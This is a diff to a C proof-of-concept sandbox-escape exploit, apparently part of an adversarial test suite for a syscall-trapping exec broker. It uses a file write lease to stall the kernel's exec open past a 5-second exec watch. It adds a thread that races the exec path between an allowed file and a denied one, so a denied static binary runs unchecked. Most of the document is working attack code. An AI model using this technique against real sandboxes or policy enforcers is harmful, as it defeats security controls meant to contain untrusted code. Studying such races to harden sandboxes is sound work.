@@ -1,4 +1,4 @@
-// technique: stall the kernel's exec past the exec watch (5 s) with a write lease on the file it will open, after a deterministic swap of the path (a lease on the allowed file says when the broker reads it); the denied static image then runs with no trapped syscall and nothing checks it
+// technique: stall the kernel's exec past the exec watch (5 s) with a write lease on the file it will open, after the path race of 174; the denied static image then runs with no trapped syscall and nothing checks it
 // build: static
 // timeout: 120
 // known: R1
@@ -6,14 +6,12 @@
 // A write lease (fcntl F_SETLEASE F_WRLCK, allowed on a file one owns) makes
 // any other open of the file wait until the holder releases it (up to
 // /proc/sys/fs/lease-break-time, 45 s), and tells the holder (F_GETLEASE
-// changes) that an open is under way. Two leases:
-//   - on .adv/okay: the broker's open of the decided file (execFormat reads
-//     its head) breaks it, after the broker read the path: the holder then
-//     writes "sudo" into the path buffer (a MAP_SHARED page) before the
-//     CONTINUE. No race window to win by luck.
-//   - on .adv/sudo: the kernel's open in the exec breaks it; the holder keeps
-//     it 5.5 s, past execWatchFor, while the image is still the old one (the
-//     watch sees nothing to check), then releases it.
+// changes) that an open is under way. A thread toggles the exec path in a
+// MAP_SHARED page between okay and sudo (the race of 174); the lease is on
+// .adv/sudo: when the kernel resolved sudo after the broker decided okay,
+// the kernel's open in the exec breaks it; the holder keeps it 5.5 s, past
+// execWatchFor, while the image is still the old one (the watch sees
+// nothing to check), then releases it.
 // The denied image (.adv/sudo, written by tiny_elf) is static, has no libc
 // and makes no trapped syscall: it spins, then prints the marker
 // (judge_exec_linux.go).
@@ -90,6 +88,13 @@ static double now(void) {
 
 static void noop(int s) { (void)s; }
 
+static volatile int stop;
+static void *flip(void *a) {
+	char *p = shared + strlen(exec_dir) + 1;
+	while (!stop) { memcpy(p, "sudo", 4); exec_spin(300); memcpy(p, "okay", 4); exec_spin(300); }
+	return a;
+}
+
 int main(int argc, char **argv) {
 	quiet_role(argc, argv);
 	exec_role(argc, argv);
@@ -97,35 +102,38 @@ int main(int argc, char **argv) {
 	exec_setup();
 	tiny_elf();
 	shared = mmap(0, 4096, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
-	for (int i = 0; i < 4 && !exec_won; i++) {
-		snprintf(shared, 1200, "%s/okay", exec_dir);
-		int ofd = lease("okay"), sfd = lease("sudo");
-		if (ofd < 0 || sfd < 0) return 0;
+	snprintf(shared, 1200, "%s/okay", exec_dir);
+	int sfd = lease("sudo");
+	if (sfd < 0) return 0;
+	pthread_t t;
+	pthread_create(&t, 0, flip, 0);
+	double end = now() + 40;
+	for (int i = 0; i < 5000 && !exec_won && now() < end; i++) {
 		pid_t p = fork();
 		if (p == 0) {
 			char *av[] = {"okay", "quiet", 0};
 			execve(shared, av, (char *[]){0});
 			_exit(errno == EACCES ? 13 : 14);
 		}
-		double t0 = now();
-		while (fcntl(ofd, F_GETLEASE) == F_WRLCK && now() - t0 < 5);
-		memcpy(shared + strlen(exec_dir) + 1, "sudo", 4); // the broker has read the path
-		fcntl(ofd, F_SETLEASE, F_UNLCK);
-		close(ofd);
-		t0 = now();
-		while (fcntl(sfd, F_GETLEASE) == F_WRLCK && now() - t0 < 3);
-		int stalled = fcntl(sfd, F_GETLEASE) != F_WRLCK;
-		if (stalled) {
-			printf("attempt %d: the kernel's open of sudo waits on the lease; holding it 5.5 s\n", i);
-			fflush(stdout);
-			usleep(5500000);
+		int st = 0;
+		for (;;) {
+			if (waitpid(p, &st, WNOHANG) == p) break;
+			if (fcntl(sfd, F_GETLEASE) != F_WRLCK) {
+				// the kernel resolved "sudo" after the broker decided "okay"
+				printf("attempt %d: the kernel's open of sudo waits on the lease; holding it 5.5 s\n", i);
+				fflush(stdout);
+				usleep(5500000);
+				fcntl(sfd, F_SETLEASE, F_UNLCK);
+				close(sfd);
+				waitpid(p, &st, 0);
+				sfd = lease("sudo");
+				break;
+			}
 		}
-		fcntl(sfd, F_SETLEASE, F_UNLCK);
-		close(sfd);
-		int st;
-		waitpid(p, &st, 0);
 		exec_status(st);
+		if (sfd < 0) break;
 	}
+	stop = 1;
 	printf("exec attempts: %d refused, %d allowed image ran, %d denied image ran, %d killed, %d other\n",
 	       exec_refused, exec_allowed, exec_won, exec_killed, exec_other);
 	return 0;
